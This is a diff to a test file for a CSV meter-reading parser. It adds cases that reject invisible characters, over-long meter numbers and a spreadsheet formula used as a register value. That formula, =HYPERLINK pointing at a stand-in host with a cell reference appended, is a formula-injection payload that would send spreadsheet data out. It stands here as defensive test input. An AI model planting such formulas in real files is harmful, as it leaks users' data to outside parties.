@@ -214,8 +214,25 @@ describe('csv format: text encodings and line endings', () => {
     expect(summary(rows)).toEqual([
       '2: M,1 1.8.0 2024-01-15T08:30:00.000Z 5',
       '3: M "2" 1 2024-01-15T08:30:00.000Z 6',
-      '4: M\n3 1 2024-01-15T08:30:00.000Z 7',
+      // A line break inside a quoted meter number is read as one field, then refused: it is not an id.
+      '4: REJECTED The meter number contains a control or invisible character (U+000A); only printable characters are allowed',
       '6: REJECTED "oops" is not a number',
+    ]);
+  });
+
+  it('refuses the identifiers the device API refuses: invisible characters in a meter number, a formula as register', async () => {
+    const rows = await parse(
+      HEADER +
+        'A\u200B100,1.8.0,2024-01-15T08:30Z,1\n' +
+        'A-100,=HYPERLINK("http://x.example/?"&A1),2024-01-15T08:30Z,2\n' +
+        'A-100,1.8.0 ,2024-01-15T08:30Z,3\n' +
+        `${'M'.repeat(65)},1,2024-01-15T08:30Z,4\n`,
+    );
+    expect(summary(rows)).toEqual([
+      '2: REJECTED The meter number contains a control or invisible character (U+200B); only printable characters are allowed',
+      '3: REJECTED The register must be 1–32 letters, digits or . _ : - (got "=HYPERLINK(\\"http://x.example/?\\"&A1)")',
+      '4: A-100 1.8.0 2024-01-15T08:30:00.000Z 3',
+      '5: REJECTED The meter number is longer than 64 characters (65)',
     ]);
   });
 
